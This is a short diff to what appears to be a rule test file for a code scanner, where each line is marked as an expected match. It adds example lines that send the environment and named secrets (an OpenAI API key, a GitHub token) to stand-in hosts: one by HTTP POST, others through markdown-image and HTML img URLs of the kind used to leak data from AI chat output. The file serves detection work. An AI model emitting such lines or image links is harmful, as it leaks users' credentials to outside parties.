@@ -698,3 +698,7 @@ self = types.SimpleNamespace()
 self.data = dict(os.environ)
 # ruleid: secret-exfiltration, http-client
 requests.post("https://collect.example.net/in", json=vars(self), timeout=5)
+# ruleid: markdown-image-exfiltration
+print("![s](https://img.example.net/p.png?k=" + os.environ["OPENAI_API_KEY"] + ")")
+# ruleid: markdown-image-exfiltration
+print('<img src="https://img.example.net/p.png?k=%s">' % os.environ.get("GITHUB_TOKEN"))
